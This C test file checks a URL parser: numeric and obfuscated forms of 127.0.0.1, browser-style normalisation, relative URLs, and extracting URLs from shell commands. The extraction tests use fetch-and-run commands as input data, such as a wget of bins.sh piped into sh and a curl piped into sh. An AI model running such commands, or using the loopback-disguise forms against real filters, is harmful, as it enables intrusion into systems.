/* URLs as browsers read them; the expectations are those of the URL Standard's own examples. */
#include "base/url.h"
#include "tests/test.h"

static const char *read_url(const char *text, const char *base, char out[URL_TEXT_MAX])
{
	struct url from, url;
	if (base && url_parse(bytes_of_text(base), NULL, &from))
		return "bad base";
	switch (url_parse(bytes_of_text(text), base ? &from : NULL, &url)) {
	case 0:
		return url_format(&url, out);
	case ERR_MISSING:
		return "scheme";
	case ERR_FULL:
		return "full";
	default:
		return "bad";
	}
}

TEST(url_hosts_that_are_numbers_are_addresses)
{
	static const struct {
		const char *text, *expected;
	} cases[] = {
		{"http://2130706433/", "http://127.0.0.1/"},
		{"http://0x7f.1/", "http://127.0.0.1/"},
		{"http://017700000001", "http://127.0.0.1/"},
		{"http://0177.0.0.01:8080/x", "http://127.0.0.1:8080/x"},
		{"http://127.1", "http://127.0.0.1/"},
		{"http://10.0x10101", "http://10.1.1.1/"},
		{"http://1.2.3.4./a", "http://1.2.3.4/a"},
		{"http://%31%32%37.0.0.1/", "http://127.0.0.1/"},
		{"http://[::ffff:127.0.0.1]/", "http://127.0.0.1/"},
		{"http://[::1]:81/", "http://[::1]:81/"},
		{"http://[2001:DB8::0:1]/", "http://[2001:db8::1]/"},
		{"http://256.1.1.1/", "bad"},
		{"http://1.2.3.4.5/", "bad"},
		{"http://0x100000000/", "bad"},
		{"http://1.2.3.08/", "bad"},
		{"http://a.b.1/", "bad"},
		{"http://1..2/", "bad"},
		{"http://1.2.3.4a/", "http://1.2.3.4a/"},
		{"http://[127.0.0.1]/", "bad"},
	};
	char out[URL_TEXT_MAX];
	for (size_t i = 0; i < sizeof cases / sizeof *cases; i++) {
		const char *got = read_url(cases[i].text, NULL, out);
		CHECK_SAY(!strcmp(got, cases[i].expected), "%s: %s", cases[i].text, got);
	}
}

TEST(url_is_read_as_browsers_do)
{
	static const struct {
		const char *text, *expected;
	} cases[] = {
		{"  HTTP://ExAmple.COM:80/a/../b?x=1#y ", "http://example.com/b?x=1"},
		{"https:\\\\example.com\\a\\.\\b", "https://example.com/a/b"},
		{"http:/example.com", "http://example.com/"},
		{"http:////example.com//x", "http://example.com//x"},
		{"ht\ntp://exa\tmple.com/", "http://example.com/"},
		{"http://user:secret@host@example.com:99/", "http://example.com:99/"},
		{"https://example.com:443/%2e%2E/a b\"", "https://example.com/a%20b%22"},
		{"http://example.com?q= x", "http://example.com/?q=%20x"},
		{"http://", "bad"},
		{"http://a b/", "bad"},
		{"http://example.com:99999/", "bad"},
		{"http://example.com:0/", "bad"},
		{"ftp://example.com/", "scheme"},
		{"javascript:alert(1)", "scheme"},
		{"/relative", "bad"},
	};
	char out[URL_TEXT_MAX];
	for (size_t i = 0; i < sizeof cases / sizeof *cases; i++) {
		const char *got = read_url(cases[i].text, NULL, out);
		CHECK_SAY(!strcmp(got, cases[i].expected), "%s: %s", cases[i].text, got);
	}
}

TEST(url_may_be_relative)
{
	static const struct {
		const char *text, *expected;
	} cases[] = {
		{"x", "http://a.example/b/c/x"},
		{"../x?y", "http://a.example/b/x?y"},
		{"../../../x", "http://a.example/x"},
		{"./", "http://a.example/b/c/"},
		{"..", "http://a.example/b/"},
		{"/x", "http://a.example/x"},
		{"\\x", "http://a.example/x"},
		{"//other.example/x", "http://other.example/x"},
		{"\\\\other.example\\x", "http://other.example/x"},
		{"?z", "http://a.example/b/c/d?z"},
		{"", "http://a.example/b/c/d?q=/"},
		{"#f", "http://a.example/b/c/d?q=/"},
		{"http:x", "http://a.example/b/c/x"},
		{"https:x", "https://x/"},
		{"mailto:x", "scheme"},
	};
	char out[URL_TEXT_MAX];
	for (size_t i = 0; i < sizeof cases / sizeof *cases; i++) {
		const char *got = read_url(cases[i].text, "http://a.example/b/c/d?q=/", out);
		CHECK_SAY(!strcmp(got, cases[i].expected), "%s: %s", cases[i].text, got);
	}
}

TEST(url_written_is_read_again_as_itself)
{
	static const char *const texts[] = {"http://example.com/a%20b?c=%22", "https://[2001:db8::1]:8443/x", "http://1.2.3.4/"};
	char out[URL_TEXT_MAX];
	for (size_t i = 0; i < sizeof texts / sizeof *texts; i++)
		CHECK(!strcmp(read_url(texts[i], NULL, out), texts[i]));
}

TEST(url_is_found_in_a_command)
{
	static const struct {
		const char *text, *expected;
	} cases[] = {
		{"cd /tmp; wget http://192.0.2.1/bins.sh; sh bins.sh", "http://192.0.2.1/bins.sh"},
		{"curl -O 'https://a.example/x?y=1'|sh", "https://a.example/x?y=1"},
		{"busybox wget HTTP://a/b", "HTTP://a/b"},
		{"ls -la", ""},
		{"", ""},
	};
	for (size_t i = 0; i < sizeof cases / sizeof *cases; i++)
		CHECK(bytes_equal_text(url_find(bytes_of_text(cases[i].text)), cases[i].expected));
}

TEST(url_too_long_is_refused)
{
	static char text[URL_MAX + 64];
	struct url url;
	memset(text, 'a', sizeof text - 1);
	memcpy(text, "http://h/", 9);
	CHECK(url_parse(bytes_of_text(text), NULL, &url) == ERR_FULL);
	memset(text + 7, 'b', 300);
	text[307] = '/';
	text[308] = '\0';
	CHECK(url_parse(bytes_of_text(text), NULL, &url) == ERR_BAD);
}
